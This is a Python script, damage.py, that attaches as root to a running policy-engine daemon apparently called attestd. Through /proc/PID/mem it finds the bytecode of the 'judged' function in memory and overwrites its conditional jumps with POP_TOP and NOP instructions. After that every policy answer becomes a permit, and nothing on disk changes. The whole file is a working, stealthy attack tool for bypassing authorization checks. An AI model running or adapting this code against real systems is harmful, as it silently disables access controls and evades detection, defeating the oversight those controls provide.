"""Damages the running daemon, in its memory: root's, with the standard library only. On disk nothing is changed.

damage.py PID ROOT    ROOT: where the daemon's packages lie

In ``judged``, which says what an answer of the policy engine means, the jumps of ``if answer.allowed and answer.reasons`` are
overwritten by instructions that drop what they would have looked at. From then on every answer is a permit, and no process of
the daemon's has to be told so: nothing of the product is there for this. The code object is found by what of it does not change
while it runs: the arguments of its instructions.
"""

import dis
import importlib.util
import itertools
import marshal
import re
import sys
from pathlib import Path

HEADER = 16
"""Bytes before the code in a file of bytecode."""
FILE = "attestd/decision/verdicts.py"
FUNCTION = "judged"
ASKED = "if answer.allowed and answer.reasons:"
DROP, NOTHING = dis.opmap["POP_TOP"], dis.opmap["NOP"]


def looks(code):
    """What its instructions look like wherever it runs: the interpreter rewrites all but their arguments."""
    raw = code.co_code
    known = {each.offset for each in dis.get_instructions(code)}
    parts = (b"." + re.escape(raw[at + 1 : at + 2]) if at in known else b".." for at in range(0, len(raw), 2))
    return re.compile(b"".join(parts), re.DOTALL)


def changes(code, lines):
    """Offsets and bytes: each jump of the line drops what it would look at, and what belongs to the jump does nothing."""
    every = list(dis.get_instructions(code))
    for each, after in itertools.pairwise(every):
        line = each.positions.lineno
        if lines[line - 1].strip() == ASKED and each.opname.startswith("POP_JUMP"):
            yield each.offset, bytes([DROP, 0]) + bytes([NOTHING, 0]) * ((after.offset - each.offset) // 2 - 1)


def regions(pid):
    """Of its memory, those that it writes and no file backs."""
    for text in Path(f"/proc/{pid}/maps").read_text().splitlines():
        addresses, modes, _, _, inode, *name = text.split()
        if modes.startswith("rw") and inode == "0" and (not name or name[0] == "[heap]"):
            begin, _, end = addresses.partition("-")
            yield int(begin, 16), int(end, 16)


def damage(pid, root):
    """How many instructions were overwritten."""
    source = Path(root) / FILE
    module = marshal.loads(Path(importlib.util.cache_from_source(source)).read_bytes()[HEADER:])
    (code,) = (each for each in module.co_consts if getattr(each, "co_name", "") == FUNCTION)
    wanted, shape, written = list(changes(code, source.read_text().splitlines())), looks(code), 0
    with Path(f"/proc/{pid}/mem").open("rb+", buffering=0) as memory:
        for begin, end in regions(pid):
            memory.seek(begin)
            for found in shape.finditer(memory.read(end - begin)):
                for offset, new in wanted:
                    memory.seek(begin + found.start() + offset)
                    written += memory.write(new) > 0
    return written


if __name__ == "__main__":
    print(damage(*sys.argv[1:]))
